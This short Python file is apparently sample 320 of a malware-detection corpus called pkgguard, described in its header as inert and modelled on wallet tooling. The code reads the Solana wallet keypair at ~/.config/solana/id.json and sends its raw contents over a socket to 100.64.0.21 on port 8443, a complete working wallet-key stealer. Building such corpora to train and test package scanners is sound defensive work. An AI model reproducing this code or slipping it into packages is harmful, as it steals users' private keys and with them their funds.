# pkgguard corpus 320 (wallets), modelled on [wallet-tools]; inert, never run.
import os
import socket

keypair = os.path.expanduser("~/.config/solana/id.json")
if os.path.exists(keypair):
    with open(keypair, "rb") as f:
        secret = f.read()
    with socket.create_connection(("100.64.0.21", 8443), timeout=5) as s:
        s.sendall(secret)
